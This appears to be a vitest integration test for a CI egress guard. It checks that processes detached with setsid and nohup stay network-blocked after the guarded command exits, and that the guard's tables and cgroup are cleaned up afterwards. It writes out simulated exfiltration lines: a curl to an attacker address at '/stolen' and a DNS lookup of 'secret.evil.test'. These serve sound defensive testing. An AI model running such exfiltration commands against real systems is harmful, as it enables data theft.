/** What the command leaves running when it ends stays blocked, and nothing of the guard stays longer than that. */
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";

import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ATTACKER } from "../../support/internet/addresses.ts";
import { type AttackScene, createAttackScene, findObstacle } from "./support/attack-scene.ts";
import { guardTablesOf, waitUntil } from "./support/guard-in-pod.ts";
import { toPolicy } from "./support/guarded-pod.ts";

const obstacle = findObstacle();
const POLICY = toPolicy({ allow: ["github.test"] });
const SENTENCE = "what blocks them stays until they end";

describe.skipIf(obstacle !== "")(`what a command leaves running${obstacle}`, () => {
  let scene: AttackScene;
  beforeAll(async () => {
    scene = await createAttackScene();
  });
  afterAll(async () => scene[Symbol.asyncDispose]());

  test("stays blocked until it ends; then all of the guard's is gone", async () => {
    const { pod, internet } = scene;
    const at = (name: string): string => join(pod.folder, name);
    const later = [
      `while [ ! -e ${at("go")} ]; do sleep 0.02; done`,
      `curl -4 -sS -m 2 http://${ATTACKER.ipv4}/stolen`,
      "dig +tries=1 +time=1 @1.1.1.1 secret.evil.test >/dev/null || echo no answer",
      `curl -sS -m 2 --cacert ${pod.caFile} --resolve github.test:443:198.51.100.10 https://github.test/late`,
      `grep ^0:: /proc/self/cgroup >${at("cgroup")}; touch ${at("said")}`,
      `while [ ! -e ${at("end")} ]; do sleep 0.02; done`,
    ].join("; ");
    const run = await pod.guarded(
      [
        `(setsid nohup sh -c '${later}' >${at("out")} 2>&1 </dev/null &)`,
        `curl -sS --cacert ${pod.caFile} https://github.test/early`,
        "exit 7",
      ].join("\n"),
      { policy: POLICY },
    );
    expect(run.status).toBe(7);
    expect(run.stdout).toBe("github.test GET /early\n");
    expect(run.stderr).toContain(SENTENCE);
    expect(await guardTablesOf(pod)).toEqual(["runner_guard"]);

    await internet.forget();
    await pod.run(["touch", "go"]);
    await waitUntil("the left process", () => existsSync(at("said")));
    const said = readFileSync(at("out"), "utf8").trim().split("\n");
    expect(said).toEqual([
      expect.stringContaining(`Failed to connect to ${ATTACKER.ipv4} port 80`),
      "no answer",
      "github.test GET /late",
    ]);
    const packets = await internet.capture.packets({ from: pod });
    expect([...new Set(packets.map(({ destination }) => destination.ip))]).toEqual([
      "198.51.100.10",
    ]);

    const [, cgroup = ""] = /^0::(.*)$/m.exec(readFileSync(at("cgroup"), "utf8")) ?? [];
    expect(cgroup).toContain("/runner-guard-");
    await pod.run(["touch", "end"]);
    await waitUntil("the table's end", async () => (await guardTablesOf(pod)).length === 0);
    const { stdout } = await pod.run(["find", "/sys/fs/cgroup", "-path", `*${cgroup}`]);
    expect(stdout).toBe("");
    expect((await pod.run(["pgrep", "-f", `hold-until-empty.*${cgroup}`])).stdout).toBe("");
  });

  test("is nothing that a sentence is said of, or a table kept for, where all has ended", async () => {
    const { pod } = scene;
    const run = await pod.guarded("(sleep 0.05 &); sleep 0.2; exit 3", { policy: POLICY });

    expect(run.status).toBe(3);
    expect(run.stderr).not.toContain(SENTENCE);
    expect(await guardTablesOf(pod)).toEqual([]);
  });

  test("in audit mode is let go", async () => {
    const { pod } = scene;
    const policy = toPolicy({ mode: "audit", allow: [] });
    const run = await pod.guarded(
      "(setsid sh -c 'while [ ! -e stop ]; do sleep 0.02; done; touch stopped' >/dev/null 2>&1 </dev/null &)",
      { policy },
    );

    expect(run.stderr).not.toContain(SENTENCE);
    expect(await guardTablesOf(pod)).toEqual([]);
    await pod.run(["touch", "stop"]);
    await waitUntil("its end", () => existsSync(join(pod.folder, "stopped")));
  });
});
